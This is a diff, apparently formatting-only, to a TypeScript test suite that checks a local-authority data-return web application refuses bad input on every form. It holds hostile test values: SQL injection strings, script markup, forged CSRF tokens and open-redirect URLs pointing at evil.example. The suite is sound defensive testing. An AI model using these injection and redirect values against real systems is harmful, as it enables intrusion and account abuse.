@@ -95,13 +95,21 @@ describe("bad input: every form refuses what it cannot take, and changes nothing
           .where("r.authority_code", "=", authority)
           .executeTakeFirstOrThrow()
       ).lock_version;
-    lock = { cardiff: await lockOf(OPEN_ROUND, CARDIFF), newport: await lockOf(OPEN_ROUND, NEWPORT), closedCardiff: await lockOf(CLOSED_ROUND, CARDIFF) };
+    lock = {
+      cardiff: await lockOf(OPEN_ROUND, CARDIFF),
+      newport: await lockOf(OPEN_ROUND, NEWPORT),
+      closedCardiff: await lockOf(CLOSED_ROUND, CARDIFF),
+    };
     const open = (await getCollection(db(), OPEN_ROUND))!;
-    const raised = await raiseQuery(db(), { collection: open, authorityCode: NEWPORT }, {
-      itemCode: ITEM,
-      body: "Is this right?",
-      actor: { userId: v.coordinator.userId, role: "coordinator", authorityCode: null },
-    });
+    const raised = await raiseQuery(
+      db(),
+      { collection: open, authorityCode: NEWPORT },
+      {
+        itemCode: ITEM,
+        body: "Is this right?",
+        actor: { userId: v.coordinator.userId, role: "coordinator", authorityCode: null },
+      },
+    );
     expect(raised).toEqual({ ok: true });
     queryId = (await db().selectFrom("value_query").select("id").orderBy("id", "desc").executeTakeFirstOrThrow()).id;
     anon = await anonymousCsrfPair();
@@ -165,11 +173,19 @@ describe("bad input: every form refuses what it cannot take, and changes nothing
       return new Request(url, { method: "POST", body: body.raw, headers });
     };
     const auditExcept = c.signIn ? ["session.sign_in_failed"] : [];
-    const sessions = async () => Number((await db().selectFrom("session").select((eb) => eb.fn.countAll<number>().as("n")).executeTakeFirstOrThrow()).n);
+    const sessions = async () =>
+      Number(
+        (
+          await db()
+            .selectFrom("session")
+            .select((eb) => eb.fn.countAll<number>().as("n"))
+            .executeTakeFirstOrThrow()
+        ).n,
+      );
     const before = await fullSnapshot(db(), { auditExcept });
     const sessionsBefore = await sessions();
     const context: Record<string, unknown> = { clientAddress: `198.18.${tried % 250}.${Math.floor(tried / 250) % 250}` };
-    let outcome;
+    let outcome: Awaited<ReturnType<typeof run>>;
     try {
       outcome = await run(() => action({ request: request(), params, context }));
     } catch (error) {
@@ -214,8 +230,8 @@ describe("bad input: every form refuses what it cannot take, and changes nothing
   const withValue = (value: Record<string, string>) => formAnswers({ [ITEM]: value }, lock.cardiff);
 
   const saveCases: Case[] = [
-    ...["abc", "1e99", "-1", "12.5", "0x1F", "NaN", "Infinity", "１２", "١٢٣", "9".repeat(1024 * 1024), "1,2,3", "1 000 000 000 000"].map((n) =>
-      save(`the number ${JSON.stringify(n.slice(0, 20))}`, () => withValue({ state: "reported", number: n })),
+    ...["abc", "1e99", "-1", "12.5", "0x1F", "NaN", "Infinity", "１２", "١٢٣", "9".repeat(1024 * 1024), "1,2,3", "1 000 000 000 000"].map(
+      (n) => save(`the number ${JSON.stringify(n.slice(0, 20))}`, () => withValue({ state: "reported", number: n })),
     ),
     ...SQL.map((s) => save(`SQL as the number ${s}`, () => withValue({ state: "reported", number: s }))),
     ...[...HOSTILE_MARKUP, "REPORTED' --", MEGABYTE, NUL, ""].map((s) =>
@@ -229,14 +245,18 @@ describe("bad input: every form refuses what it cannot take, and changes nothing
     save("a query explanation of 1 MB", () => withValue({ state: "reported", number: "5", queryExplanation: MEGABYTE })),
     save("control characters in a caveat", () => withValue({ state: "reported", number: "5", caveat: CONTROL })),
     save("a NUL byte in a caveat", () => withValue({ state: "reported", number: "5", caveat: NUL })),
-    ...HOSTILE_MARKUP.map((s) => save(`markup in the caveat ${s}`, () => poisoned({ [ITEM]: { state: "reported", number: "5", caveat: s } }), s)),
+    ...HOSTILE_MARKUP.map((s) =>
+      save(`markup in the caveat ${s}`, () => poisoned({ [ITEM]: { state: "reported", number: "5", caveat: s } }), s),
+    ),
     ...HOSTILE_MARKUP.map((s) =>
       save(`markup in the reason ${s}`, () => poisoned({ [ITEM]: { state: "not_collected", "reason-not_collected": s } }), s),
     ),
     save("markup in a counting note", () => poisoned({ [ITEM]: { state: "reported", number: "5", countingNote: SCRIPT } }), SCRIPT),
     save("markup in a query explanation", () => poisoned({ [ITEM]: { state: "reported", number: "5", queryExplanation: IMG } }), IMG),
     save("odd unicode in a caveat, with a bad number", () => poisoned({ [ITEM]: { state: "reported", number: "5", caveat: ODD_UNICODE } })),
-    ...SQL.map((s) => save(`SQL in a caveat, with a bad number: ${s}`, () => poisoned({ [ITEM]: { state: "reported", number: "5", caveat: s } }))),
+    ...SQL.map((s) =>
+      save(`SQL in a caveat, with a bad number: ${s}`, () => poisoned({ [ITEM]: { state: "reported", number: "5", caveat: s } })),
+    ),
     ...["abc", "-5", "121", "1e3", "<b>18</b>"].map((age) =>
       save(`the age band from ${age}`, () => withValue({ state: "reported", number: "5", ageFrom: age, ageTo: "25" })),
     ),
@@ -251,14 +271,22 @@ describe("bad input: every form refuses what it cannot take, and changes nothing
     ].map(([d, m, y]) =>
       save(`the reference date ${d}/${m}/${y}`, () => withValue({ state: "reported", number: "5", refDay: d!, refMonth: m!, refYear: y! })),
     ),
-    ...ABSURD_LOCK_VERSIONS.map((lv) => save(`the lock version ${JSON.stringify(lv)}`, () => ({ ...formAnswers({ [ITEM]: { state: "reported", number: "77" } }), lockVersion: lv }))),
+    ...ABSURD_LOCK_VERSIONS.map((lv) =>
+      save(`the lock version ${JSON.stringify(lv)}`, () => ({
+        ...formAnswers({ [ITEM]: { state: "reported", number: "77" } }),
+        lockVersion: lv,
+      })),
+    ),
     save("a lock version from before the last save", () => formAnswers({ [ITEM]: { state: "reported", number: "77" } }, lock.cardiff - 1)),
     save("a lock version from the future", () => formAnswers({ [ITEM]: { state: "reported", number: "77" } }, lock.cardiff + 5)),
     save("no lock version at all", () => {
       const { lockVersion: _drop, ...rest } = formAnswers({ [ITEM]: { state: "reported", number: "77" } }, lock.cardiff);
       return rest;
     }),
-    save("two lock versions, the first stale", () => ({ ...formAnswers({ [ITEM]: { state: "reported", number: "77" } }), lockVersion: [String(lock.cardiff - 1), String(lock.cardiff)] })),
+    save("two lock versions, the first stale", () => ({
+      ...formAnswers({ [ITEM]: { state: "reported", number: "77" } }),
+      lockVersion: [String(lock.cardiff - 1), String(lock.cardiff)],
+    })),
     save("a number twice, the first not a number", () => ({ ...withValue({ state: "reported" }), [`${ITEM}.number`]: ["abc", "5"] })),
     save("a state twice, the first unknown", () => ({ ...withValue({ number: "5" }), [`${ITEM}.state`]: ["sometimes", "reported"] })),
     ...["drop", "SAVE", "", SCRIPT, "accept"].map((intent) =>
@@ -272,15 +300,31 @@ describe("bad input: every form refuses what it cannot take, and changes nothing
 
   const csrfCases: Case[] = [
     { ...save("", () => ({})), name: "save: no CSRF token", body: () => ({ fields: withValue({ state: "reported", number: "77" }) }) },
-    { ...save("", () => ({})), name: "save: a wrong CSRF token", body: () => ({ fields: { csrf: "x".repeat(43), ...withValue({ state: "reported", number: "77" }) } }) },
-    { ...save("", () => ({})), name: "save: another session's CSRF token", body: () => ({ fields: { csrf: v.newport.csrf, ...withValue({ state: "reported", number: "77" }) } }) },
-    { ...save("", () => ({})), name: "save: an empty CSRF token", body: () => ({ fields: { csrf: "", ...withValue({ state: "reported", number: "77" }) } }) },
+    {
+      ...save("", () => ({})),
+      name: "save: a wrong CSRF token",
+      body: () => ({ fields: { csrf: "x".repeat(43), ...withValue({ state: "reported", number: "77" }) } }),
+    },
+    {
+      ...save("", () => ({})),
+      name: "save: another session's CSRF token",
+      body: () => ({ fields: { csrf: v.newport.csrf, ...withValue({ state: "reported", number: "77" }) } }),
+    },
+    {
+      ...save("", () => ({})),
+      name: "save: an empty CSRF token",
+      body: () => ({ fields: { csrf: "", ...withValue({ state: "reported", number: "77" }) } }),
+    },
     {
       ...save("", () => ({})),
       name: "save: two CSRF tokens, the first wrong",
       body: () => ({ fields: { csrf: ["wrong", v.cardiff.csrf], ...withValue({ state: "reported", number: "77" }) } }),
     },
-    { ...save("", () => ({})), name: "save: a CSRF token of 1 MB", body: () => ({ fields: { csrf: MEGABYTE, ...withValue({ state: "reported", number: "77" }) } }) },
+    {
+      ...save("", () => ({})),
+      name: "save: a CSRF token of 1 MB",
+      body: () => ({ fields: { csrf: MEGABYTE, ...withValue({ state: "reported", number: "77" }) } }),
+    },
   ];
 
   const notAForm = (name: string, raw: () => BodyInit, contentType: string | null): Case => ({
@@ -292,10 +336,26 @@ describe("bad input: every form refuses what it cannot take, and changes nothing
   });
   const bodyCases: Case[] = [
     notAForm("a JSON body", () => JSON.stringify({ csrf: v.cardiff.csrf, intent: "save", lockVersion: lock.cardiff }), "application/json"),
-    notAForm("a JSON body sent as a form", () => JSON.stringify({ csrf: v.cardiff.csrf, intent: "save" }), "application/x-www-form-urlencoded"),
-    notAForm("garbage bytes sent as a form", () => new Uint8Array(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256)), "application/x-www-form-urlencoded"),
-    notAForm("garbage bytes as multipart", () => new Uint8Array(Array.from({ length: 4096 }, (_, i) => (i * 31) % 256)), "multipart/form-data; boundary=xyz"),
-    notAForm("a multipart body without its boundary", () => `--xyz\r\nContent-Disposition: form-data; name="csrf"\r\n\r\nabc\r\n--xyz--`, "multipart/form-data"),
+    notAForm(
+      "a JSON body sent as a form",
+      () => JSON.stringify({ csrf: v.cardiff.csrf, intent: "save" }),
+      "application/x-www-form-urlencoded",
+    ),
+    notAForm(
+      "garbage bytes sent as a form",
+      () => new Uint8Array(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256)),
+      "application/x-www-form-urlencoded",
+    ),
+    notAForm(
+      "garbage bytes as multipart",
+      () => new Uint8Array(Array.from({ length: 4096 }, (_, i) => (i * 31) % 256)),
+      "multipart/form-data; boundary=xyz",
+    ),
+    notAForm(
+      "a multipart body without its boundary",
+      () => `--xyz\r\nContent-Disposition: form-data; name="csrf"\r\n\r\nabc\r\n--xyz--`,
+      "multipart/form-data",
+    ),
     notAForm("plain text", () => `csrf=${v.cardiff.csrf}&intent=save`, "text/plain"),
     notAForm("XML", () => `<form><csrf>${v.cardiff.csrf}</csrf></form>`, "application/xml"),
     notAForm("no content type", () => `csrf=${v.cardiff.csrf}&intent=save`, null),
@@ -311,7 +371,12 @@ describe("bad input: every form refuses what it cannot take, and changes nothing
     body: () => ({ fields: { csrf: v.cardiff.csrf, ...fields() } }),
     echoes,
   });
-  const declaration = (over: Fields) => ({ lockVersion: String(lock.cardiff), signedOffName: "Siân Evans", signedOffRole: "Head of Service", ...over });
+  const declaration = (over: Fields) => ({
+    lockVersion: String(lock.cardiff),
+    signedOffName: "Siân Evans",
+    signedOffRole: "Head of Service",
+    ...over,
+  });
   const stale = (over: Fields) => declaration({ lockVersion: String(lock.cardiff - 1), ...over });
   const submitCases: Case[] = [
     ...ABSURD_LOCK_VERSIONS.map((lv) => submit(`the lock version ${JSON.stringify(lv)}`, () => declaration({ lockVersion: lv }))),
@@ -344,7 +409,9 @@ describe("bad input: every form refuses what it cannot take, and changes nothing
     amend("a reason of 1001 characters", () => reason({ reason: "r".repeat(1001) })),
     amend("a reason of 1 MB", () => reason({ reason: MEGABYTE })),
     amend("a NUL byte in the reason", () => reason({ reason: NUL })),
-    ...HOSTILE_MARKUP.map((s) => amend(`markup in the reason, from a stale page: ${s}`, () => reason({ lockVersion: String(lock.newport - 1), reason: s }), s)),
+    ...HOSTILE_MARKUP.map((s) =>
+      amend(`markup in the reason, from a stale page: ${s}`, () => reason({ lockVersion: String(lock.newport - 1), reason: s }), s),
+    ),
   ];
 
   const loginCase = (name: string, fields: () => Fields, echoes?: string): Case => ({
@@ -362,14 +429,32 @@ describe("bad input: every form refuses what it cannot take, and changes nothing
     loginCase("a NUL byte in the email", () => ({ email: `someone${NUL}@authorities.example`, password: "wrong-password-123" })),
     loginCase("a NUL byte in the password", () => ({ email: "someone.2@authorities.example", password: `demo${NUL}password` })),
     loginCase("control characters in the email", () => ({ email: `someone${CONTROL}@x.example`, password: "wrong" })),
-    ...HOSTILE_MARKUP.map((s, i) => loginCase(`markup as the email: ${s}`, () => ({ email: `${s}${i}@x.example`, password: "wrong" }), `${s}${i}@x.example`)),
+    ...HOSTILE_MARKUP.map((s, i) =>
+      loginCase(`markup as the email: ${s}`, () => ({ email: `${s}${i}@x.example`, password: "wrong" }), `${s}${i}@x.example`),
+    ),
     ...SQL.map((s) => loginCase(`SQL as the email: ${s}`, () => ({ email: s, password: s }))),
     loginCase("no email or password", () => ({})),
     loginCase("two emails, the first unknown", () => ({ email: ["nobody.3@x.example", OFFICER.cardiff], password: "demo-password-2023" })),
-    loginCase("a returnTo elsewhere, with a wrong password", () => ({ email: "someone.4@x.example", password: "wrong", returnTo: "https://evil.example/" })),
-    { ...loginCase("", () => ({})), name: "sign in: no CSRF token", body: () => ({ fields: { email: OFFICER.cardiff, password: "demo-password-2023" } }) },
-    { ...loginCase("", () => ({})), name: "sign in: a wrong CSRF token", body: () => ({ fields: { csrf: "forged", email: OFFICER.cardiff, password: "demo-password-2023" } }) },
-    { ...loginCase("", () => ({})), name: "sign in: a JSON body", body: () => ({ raw: JSON.stringify({ csrf: anon.token, email: OFFICER.cardiff }), contentType: "application/json" }) },
+    loginCase("a returnTo elsewhere, with a wrong password", () => ({
+      email: "someone.4@x.example",
+      password: "wrong",
+      returnTo: "https://evil.example/",
+    })),
+    {
+      ...loginCase("", () => ({})),
+      name: "sign in: no CSRF token",
+      body: () => ({ fields: { email: OFFICER.cardiff, password: "demo-password-2023" } }),
+    },
+    {
+      ...loginCase("", () => ({})),
+      name: "sign in: a wrong CSRF token",
+      body: () => ({ fields: { csrf: "forged", email: OFFICER.cardiff, password: "demo-password-2023" } }),
+    },
+    {
+      ...loginCase("", () => ({})),
+      name: "sign in: a JSON body",
+      body: () => ({ raw: JSON.stringify({ csrf: anon.token, email: OFFICER.cardiff }), contentType: "application/json" }),
+    },
   ];
 
   /** The coordinator's (and the officer's) actions on queries, on Newport's submitted return. */
@@ -385,28 +470,54 @@ describe("bad input: every form refuses what it cannot take, and changes nothing
   const newportOfficer = () => v.newport;
   const closedCardiff = () => ({ collectionCode: CLOSED_ROUND, authorityCode: CARDIFF });
   const queryCases: Case[] = [
-    onQuery("raise on an item the collection does not have", coordinator, () => ({ intent: "raise", itemCode: "no_such_item", message: "Why?" })),
-    ...SQL.slice(0, 3).map((s) => onQuery(`raise on the item ${s}`, coordinator, () => ({ intent: "raise", itemCode: s, message: "Why?" }))),
+    onQuery("raise on an item the collection does not have", coordinator, () => ({
+      intent: "raise",
+      itemCode: "no_such_item",
+      message: "Why?",
+    })),
+    ...SQL.slice(0, 3).map((s) =>
+      onQuery(`raise on the item ${s}`, coordinator, () => ({ intent: "raise", itemCode: s, message: "Why?" })),
+    ),
     onQuery("raise with no message", coordinator, () => ({ intent: "raise", itemCode: ITEM, message: "  " })),
     onQuery("raise with 2001 characters", coordinator, () => ({ intent: "raise", itemCode: ITEM, message: "m".repeat(2001) })),
     onQuery("raise with 1 MB", coordinator, () => ({ intent: "raise", itemCode: ITEM, message: MEGABYTE })),
     onQuery("raise with control characters", coordinator, () => ({ intent: "raise", itemCode: ITEM, message: CONTROL })),
     onQuery("raise with a NUL byte", coordinator, () => ({ intent: "raise", itemCode: ITEM, message: NUL })),
-    ...HOSTILE_MARKUP.map((s) => onQuery(`raise markup on an unknown item: ${s}`, coordinator, () => ({ intent: "raise", itemCode: "nope", message: s }))),
+    ...HOSTILE_MARKUP.map((s) =>
+      onQuery(`raise markup on an unknown item: ${s}`, coordinator, () => ({ intent: "raise", itemCode: "nope", message: s })),
+    ),
     ...["abc", "1e99", "-1", "", "99999999999", "1.5", "2147483648"].map((id) =>
-      onQuery(`reply to the query ${JSON.stringify(id)}`, newportOfficer, () => ({ intent: "reply", queryId: id, message: "Here is why." })),
+      onQuery(`reply to the query ${JSON.stringify(id)}`, newportOfficer, () => ({
+        intent: "reply",
+        queryId: id,
+        message: "Here is why.",
+      })),
     ),
     ...["1e99", "99999999999", "abc"].map((id) =>
       onQuery(`resolve the query ${JSON.stringify(id)}`, coordinator, () => ({ intent: "resolve", queryId: id, message: "" })),
     ),
     onQuery("reply with 1 MB", newportOfficer, () => ({ intent: "reply", queryId: String(queryId), message: MEGABYTE })),
     onQuery("reply with a NUL byte", newportOfficer, () => ({ intent: "reply", queryId: String(queryId), message: NUL })),
-    onQuery("reply with markup and control characters", newportOfficer, () => ({ intent: "reply", queryId: String(queryId), message: `${SCRIPT}${CONTROL}` })),
+    onQuery("reply with markup and control characters", newportOfficer, () => ({
+      intent: "reply",
+      queryId: String(queryId),
+      message: `${SCRIPT}${CONTROL}`,
+    })),
     onQuery("resolve with a message of 1 MB", coordinator, () => ({ intent: "resolve", queryId: String(queryId), message: MEGABYTE })),
     ...ABSURD_LOCK_VERSIONS.map((lv) =>
-      onQuery(`accept with the lock version ${JSON.stringify(lv)}`, coordinator, () => ({ intent: "accept", lockVersion: lv }), closedCardiff),
+      onQuery(
+        `accept with the lock version ${JSON.stringify(lv)}`,
+        coordinator,
+        () => ({ intent: "accept", lockVersion: lv }),
+        closedCardiff,
+      ),
     ),
-    onQuery("accept from a stale page", coordinator, () => ({ intent: "accept", lockVersion: String(lock.closedCardiff - 1) }), closedCardiff),
+    onQuery(
+      "accept from a stale page",
+      coordinator,
+      () => ({ intent: "accept", lockVersion: String(lock.closedCardiff - 1) }),
+      closedCardiff,
+    ),
     onQuery("accept a return with a query open", coordinator, () => ({ intent: "accept", lockVersion: String(lock.newport) })),
   ];
 
@@ -456,7 +567,9 @@ describe("bad input: every form refuses what it cannot take, and changes nothing
     design("a rule of 1 MB", () => collectionForm({ rules: MEGABYTE })),
     design("a rule on an item not asked for", () => collectionForm({ rules: `${ITEM} <= care_experienced_parents` })),
     design("SQL as a rule", () => collectionForm({ rules: SQL[0]! })),
-    ...HOSTILE_MARKUP.map((s) => design(`markup in the title, with a bad date: ${s}`, () => collectionForm({ title_en: s, ...badDate }), s)),
+    ...HOSTILE_MARKUP.map((s) =>
+      design(`markup in the title, with a bad date: ${s}`, () => collectionForm({ title_en: s, ...badDate }), s),
+    ),
     design("markup in the guidance, with a bad date", () => collectionForm({ guidance_cy: SCRIPT, ...badDate }), SCRIPT),
     design("a NUL byte in the title", () => collectionForm({ title_en: NUL })),
     design("a NUL byte in the guidance, with a bad date", () => collectionForm({ guidance_en: NUL, ...badDate })),
@@ -510,7 +623,9 @@ describe("bad input: every form refuses what it cannot take, and changes nothing
     catalogueNew("an age band upside down", () => itemForm({ age_from: "25", age_to: "18" })),
     catalogueNew("a parent that does not exist", () => itemForm({ parent_code: "no_such_parent" })),
     catalogueNew("SQL as the parent", () => itemForm({ parent_code: SQL[3]! })),
-    ...HOSTILE_MARKUP.map((s) => catalogueNew(`markup in the label, with a bad code: ${s}`, () => itemForm({ code: "Bad Code", label_en: s }), s)),
+    ...HOSTILE_MARKUP.map((s) =>
+      catalogueNew(`markup in the label, with a bad code: ${s}`, () => itemForm({ code: "Bad Code", label_en: s }), s),
+    ),
     catalogueNew("a NUL byte in the label", () => itemForm({ label_en: NUL })),
     catalogueNew("a NUL byte in the definition, with a bad code", () => itemForm({ code: "Bad Code", definition_en: NUL })),
   ];
@@ -540,12 +655,16 @@ describe("bad input: every form refuses what it cannot take, and changes nothing
     ...over,
   });
   const inviteCases: Case[] = [
-    ...["not-an-address", "a@b", "", `${"e".repeat(250)}@x.example`, MEGABYTE, SQL[0]!, COORDINATOR, OFFICER.cardiff.toUpperCase()].map((email) =>
-      invite(`the email ${JSON.stringify(email.slice(0, 30))}`, () => invitation({ email })),
+    ...["not-an-address", "a@b", "", `${"e".repeat(250)}@x.example`, MEGABYTE, SQL[0]!, COORDINATOR, OFFICER.cardiff.toUpperCase()].map(
+      (email) => invite(`the email ${JSON.stringify(email.slice(0, 30))}`, () => invitation({ email })),
     ),
-    ...["admin", "superuser", "", "officer' OR '1'='1", SCRIPT].map((role) => invite(`the role ${JSON.stringify(role)}`, () => invitation({ role }))),
+    ...["admin", "superuser", "", "officer' OR '1'='1", SCRIPT].map((role) =>
+      invite(`the role ${JSON.stringify(role)}`, () => invitation({ role })),
+    ),
     invite("an officer with no authority", () => invitation({ authorityCode: "" })),
-    ...[`${CARDIFF}' --`, "W06999999", "w06000015", MEGABYTE].map((a) => invite(`the authority ${JSON.stringify(a.slice(0, 20))}`, () => invitation({ authorityCode: a }))),
+    ...[`${CARDIFF}' --`, "W06999999", "w06000015", MEGABYTE].map((a) =>
+      invite(`the authority ${JSON.stringify(a.slice(0, 20))}`, () => invitation({ authorityCode: a })),
+    ),
     ...["fr", "", "EN", SCRIPT].map((language) => invite(`the language ${JSON.stringify(language)}`, () => invitation({ language }))),
     invite("a name of 201 characters", () => invitation({ name: "n".repeat(201) })),
     invite("a name of 1 MB", () => invitation({ name: MEGABYTE })),
@@ -557,30 +676,94 @@ describe("bad input: every form refuses what it cannot take, and changes nothing
   // Markup in every field of every form, one field at a time, each with something else wrong (the
   // form's "poison") so that it is refused whatever the field makes of the markup.
   const everyField: Case[] = [
-    ...["state", "number", "reason-unknown", "reason-not_collected", "reason-not_applicable", "ageFrom", "ageTo", "refDay", "refMonth", "refYear", "countingNote", "caveat", "queryExplanation"].map((f) =>
-      save(`markup in ${ITEM}.${f}`, () => ({ ...poisoned({ [ITEM]: { state: f.startsWith("reason-") ? f.slice(7) : "reported", number: "5" } }), [`${ITEM}.${f}`]: SCRIPT })),
+    ...[
+      "state",
+      "number",
+      "reason-unknown",
+      "reason-not_collected",
+      "reason-not_applicable",
+      "ageFrom",
+      "ageTo",
+      "refDay",
+      "refMonth",
+      "refYear",
+      "countingNote",
+      "caveat",
+      "queryExplanation",
+    ].map((f) =>
+      save(`markup in ${ITEM}.${f}`, () => ({
+        ...poisoned({ [ITEM]: { state: f.startsWith("reason-") ? f.slice(7) : "reported", number: "5" } }),
+        [`${ITEM}.${f}`]: SCRIPT,
+      })),
     ),
     save("markup as the lock version", () => ({ ...withValue({ state: "reported", number: "5" }), lockVersion: SCRIPT })),
-    ...["signedOffName", "signedOffRole", "lockVersion"].map((f) => submit(`markup in ${f}, from a stale page`, () => stale({ [f]: SCRIPT }))),
-    ...["reason", "lockVersion"].map((f) => amend(`markup in ${f}, from a stale page`, () => reason({ lockVersion: String(lock.newport - 1), [f]: SCRIPT }))),
+    ...["signedOffName", "signedOffRole", "lockVersion"].map((f) =>
+      submit(`markup in ${f}, from a stale page`, () => stale({ [f]: SCRIPT })),
+    ),
+    ...["reason", "lockVersion"].map((f) =>
+      amend(`markup in ${f}, from a stale page`, () => reason({ lockVersion: String(lock.newport - 1), [f]: SCRIPT })),
+    ),
     ...["email", "password", "returnTo"].map((f) =>
-      loginCase(`markup in ${f}, with a wrong password`, () => ({ email: `markup.${f}@x.example`, password: "wrong-password", [f]: f === "returnTo" ? `/${SCRIPT}` : SCRIPT })),
+      loginCase(`markup in ${f}, with a wrong password`, () => ({
+        email: `markup.${f}@x.example`,
+        password: "wrong-password",
+        [f]: f === "returnTo" ? `/${SCRIPT}` : SCRIPT,
+      })),
     ),
     ...["itemCode", "message", "queryId"].map((f) =>
-      onQuery(`markup in ${f}, raised on an unknown item`, coordinator, () => ({ intent: "raise", itemCode: "nope", message: "Why?", queryId: "1", [f]: SCRIPT })),
+      onQuery(`markup in ${f}, raised on an unknown item`, coordinator, () => ({
+        intent: "raise",
+        itemCode: "nope",
+        message: "Why?",
+        queryId: "1",
+        [f]: SCRIPT,
+      })),
     ),
     onQuery("markup as the query id of a reply", newportOfficer, () => ({ intent: "reply", queryId: SCRIPT, message: "Here." })),
-    ...["code", "title_en", "title_cy", "guidance_en", "guidance_cy", "reference_date", "opens_on", "due_on", "rules", "changePercent", "changeAbsolute", `position.${ITEM}`].map((f) =>
-      design(`markup in ${f}, with a bad due date`, () => collectionForm({ ...badDate, [f]: SCRIPT })),
-    ),
-    ...["code", "title_en", "title_cy", "guidance_en", "guidance_cy", "reference_date", "opens_on", "rules", "changePercent", "changeAbsolute"].map((f) =>
+    ...[
+      "code",
+      "title_en",
+      "title_cy",
+      "guidance_en",
+      "guidance_cy",
+      "reference_date",
+      "opens_on",
+      "due_on",
+      "rules",
+      "changePercent",
+      "changeAbsolute",
+      `position.${ITEM}`,
+    ].map((f) => design(`markup in ${f}, with a bad due date`, () => collectionForm({ ...badDate, [f]: SCRIPT }))),
+    ...[
+      "code",
+      "title_en",
+      "title_cy",
+      "guidance_en",
+      "guidance_cy",
+      "reference_date",
+      "opens_on",
+      "rules",
+      "changePercent",
+      "changeAbsolute",
+    ].map((f) =>
       newCollection(`markup in ${f}, with a bad due date`, () => collectionForm({ code: "hardening-new", ...badDate, [f]: SCRIPT })),
     ),
-    ...["code", "label_en", "label_cy", "definition_en", "definition_cy", "min_value", "max_value", "age_from", "age_to", "parent_code"].map((f) =>
-      catalogueNew(`markup in ${f}, with a bad code`, () => itemForm({ code: "Bad Code", [f]: SCRIPT })),
-    ),
+    ...[
+      "code",
+      "label_en",
+      "label_cy",
+      "definition_en",
+      "definition_cy",
+      "min_value",
+      "max_value",
+      "age_from",
+      "age_to",
+      "parent_code",
+    ].map((f) => catalogueNew(`markup in ${f}, with a bad code`, () => itemForm({ code: "Bad Code", [f]: SCRIPT }))),
     catalogueDelete(SCRIPT),
-    ...["email", "name", "role", "authorityCode", "language"].map((f) => invite(`markup in ${f}, with a bad email`, () => invitation({ email: "bad", [f]: SCRIPT }))),
+    ...["email", "name", "role", "authorityCode", "language"].map((f) =>
+      invite(`markup in ${f}, with a bad email`, () => invitation({ email: "bad", [f]: SCRIPT })),
+    ),
   ];
 
   const families: [string, Case[]][] = [
@@ -642,10 +825,10 @@ describe("bad input: every form refuses what it cannot take, and changes nothing
         "/login?returnTo=%2F%09%2Fevil.example",
       ].map(
         (path) =>
-          [path, (status: number, location: string | null) => status < 400 && (location === null || /^\/(?![/\\])[^\s\\]*$/.test(location))] as [
-            string,
-            (s: number, l: string | null) => boolean,
-          ],
+          [
+            path,
+            (status: number, location: string | null) => status < 400 && (location === null || /^\/(?![/\\])[^\s\\]*$/.test(location)),
+          ] as [string, (s: number, l: string | null) => boolean],
       ),
     ];
     it.each(addresses)("%s", async (path, acceptable) => {
@@ -655,7 +838,10 @@ describe("bad input: every form refuses what it cannot take, and changes nothing
         // Anyone not signed in is sent to sign in first; the address is checked once they are.
         if (!visitor && location?.startsWith("/login?returnTo=")) continue;
         expect(response.status, `${path}: not a server error`).toBeLessThan(500);
-        expect(acceptable(response.status, location), `${path} as ${visitor ? "the coordinator" : "anyone"}: ${response.status} ${location}`).toBe(true);
+        expect(
+          acceptable(response.status, location),
+          `${path} as ${visitor ? "the coordinator" : "anyone"}: ${response.status} ${location}`,
+        ).toBe(true);
       }
     });
     it("keeps sign-in's returnTo on this site, whatever it is given", async () => {
@@ -698,10 +884,18 @@ describe("bad input: every form refuses what it cannot take, and changes nothing
     };
     // Row 4 is the first item (care_leavers_21_25); columns D (answer) and E (number).
     const FIRST = 4;
-    const multipart = (bytes: Uint8Array | null, { csrf, name = "returns.xlsx", field = "workbook" }: { csrf?: string; name?: string; field?: string } = {}) => {
+    const multipart = (
+      bytes: Uint8Array | null,
+      { csrf, name = "returns.xlsx", field = "workbook" }: { csrf?: string; name?: string; field?: string } = {},
+    ) => {
       const form = new FormData();
       form.append("csrf", csrf ?? v.cardiff.csrf);
-      if (bytes) form.append(field, new Blob([bytes as BlobPart], { type: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" }), name);
+      if (bytes)
+        form.append(
+          field,
+          new Blob([bytes as BlobPart], { type: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" }),
+          name,
+        );
       return form;
     };
     const upload = (name: string, body: () => Promise<Body> | Body, echoes?: string): Case => ({
@@ -752,9 +946,17 @@ describe("bad input: every form refuses what it cannot take, and changes nothing
         return written(wb);
       }),
       file("a template with its Return sheet renamed", () => edited((wb) => (returnSheet(wb).name = "Answers"))),
-      file("a formula in the number cell", () => edited((wb) => (returnSheet(wb).getCell(FIRST, 5).value = { formula: "SUM(1,2)", result: 3 } as ExcelJS.CellFormulaValue))),
-      file("a formula in the answer cell", () => edited((wb) => (returnSheet(wb).getCell(FIRST, 4).value = { formula: '"Re"&"ported"', result: "Reported" } as ExcelJS.CellFormulaValue))),
-      file("an error value in a cell", () => edited((wb) => (returnSheet(wb).getCell(FIRST, 5).value = { error: "#DIV/0!" } as ExcelJS.CellErrorValue))),
+      file("a formula in the number cell", () =>
+        edited((wb) => (returnSheet(wb).getCell(FIRST, 5).value = { formula: "SUM(1,2)", result: 3 } as ExcelJS.CellFormulaValue)),
+      ),
+      file("a formula in the answer cell", () =>
+        edited(
+          (wb) => (returnSheet(wb).getCell(FIRST, 4).value = { formula: '"Re"&"ported"', result: "Reported" } as ExcelJS.CellFormulaValue),
+        ),
+      ),
+      file("an error value in a cell", () =>
+        edited((wb) => (returnSheet(wb).getCell(FIRST, 5).value = { error: "#DIV/0!" } as ExcelJS.CellErrorValue)),
+      ),
       file("merged answer cells", () => edited((wb) => returnSheet(wb).mergeCells(FIRST, 4, FIRST, 5))),
       file("rows sorted into another order", () =>
         edited((wb) => {
@@ -782,15 +984,13 @@ describe("bad input: every form refuses what it cannot take, and changes nothing
           sheet.getCell(FIRST + 1, 5).value = "several";
         }),
       ),
-      file(
-        "markup in a caveat, with a number that is not one",
-        () =>
-          edited((wb) => {
-            const sheet = returnSheet(wb);
-            sheet.getCell(FIRST, 4).value = "Reported";
-            sheet.getCell(FIRST, 5).value = "lots";
-            sheet.getCell(FIRST, 11).value = SCRIPT;
-          }),
+      file("markup in a caveat, with a number that is not one", () =>
+        edited((wb) => {
+          const sheet = returnSheet(wb);
+          sheet.getCell(FIRST, 4).value = "Reported";
+          sheet.getCell(FIRST, 5).value = "lots";
